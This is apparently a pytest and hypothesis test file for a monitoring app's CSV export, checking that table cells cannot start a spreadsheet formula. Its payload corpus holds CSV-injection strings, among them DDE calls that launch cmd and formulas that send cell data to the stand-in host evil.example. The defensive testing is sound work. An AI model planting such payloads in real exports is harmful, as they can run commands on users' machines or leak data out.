"""No cell of a table is a formula to a spreadsheet, whatever somebody calls himself."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitor.store.queue import QueueRow
from monitor.web.api.tables import BOM, COLUMNS, FORMULA, cell, lines
from tests.make import NOW, make_account, make_case

SIGNS = (*"=+-@＝＋－＠",)
PAYLOADS = (
    "cmd|' /C calc'!A0",
    "1+1",
    'HYPERLINK("http://evil.example","x")',
    "SUM(1,1)*cmd|'/c calc'!A0",
    "2+5+cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
)
LEADS = (
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\ufeff",
    "\u200b",
    '"',
    "x;",
    "x,",
    "x\t",
    "x\n",
    "x|",
    '","',
    '";"',
)
CORPUS = [lead + sign + payload for lead in LEADS for sign in SIGNS for payload in PAYLOADS]


def begins_of_cells(text: str) -> set[str]:
    """How every cell begins that a spreadsheet could make of the text, whatever separator it expects."""
    for mark in ("\r", "\n", ";", ",", "\t", "|", '"'):
        text = text.replace(mark, "\x00")
    return {part.lstrip(" \u00a0\ufeff\u200b")[:1] for part in text.split("\x00")}


def test_the_corpus_is_large_and_would_be_found() -> None:
    assert len(CORPUS) > 1000
    assert all(begins_of_cells(text) & set(FORMULA) for text in CORPUS)


@pytest.mark.parametrize("sign", SIGNS)
def test_nothing_of_the_corpus_is_a_formula(sign: str) -> None:
    for text in CORPUS:
        assert not begins_of_cells(cell(text)) & set(FORMULA), repr(text)
        assert not cell(text).startswith(("\t", "\r", "\n"))


@given(st.text(alphabet=st.sampled_from([*FORMULA, *";,|\t\r\n'\" \u00a0\ufeff\u200bxé1"]), max_size=12))
def test_no_text_is_a_formula(text: str) -> None:
    assert not begins_of_cells(cell(text)) & set(FORMULA)


@given(st.text(alphabet=st.characters(exclude_characters=FORMULA, exclude_categories=["Cc", "Cs"]), max_size=30))
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_moments_numbers_and_nothing() -> None:
    assert [cell(NOW), cell(17), cell(None), cell("a\x00b")] == ["2026-03-02T09:00:00+00:00", "17", "", "ab"]


def table(*rows: QueueRow) -> list[dict[str, str]]:
    text = "".join(lines(rows))
    assert text.startswith(BOM)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))


def test_every_column_is_filled_by_its_name() -> None:
    case = make_case(id=17, version=3, assignee="ilze", tags=("vip", "riga"), customer_id="1899000000000000001")

    (row,) = table(QueueRow(case, None, make_account(handle="anna", name="=1+1")))

    assert tuple(row) == COLUMNS
    assert (row["case"], row["version"], row["assignee"], row["labels"]) == ("17", "3", "ilze", "vip, riga")
    assert row["customer"] == "x:1899000000000000001", "nineteen digits alone would lose the last ones"
    assert (row["customer_handle"], row["customer_name"]) == ("anna", "'=1+1")
    assert row["due_at"] == "2026-03-02T10:00:00+00:00"


def test_a_customer_whom_we_do_not_know() -> None:
    (row,) = table(QueueRow(make_case(id=1), None, None))

    assert (row["customer_handle"], row["customer_name"]) == ("", "")
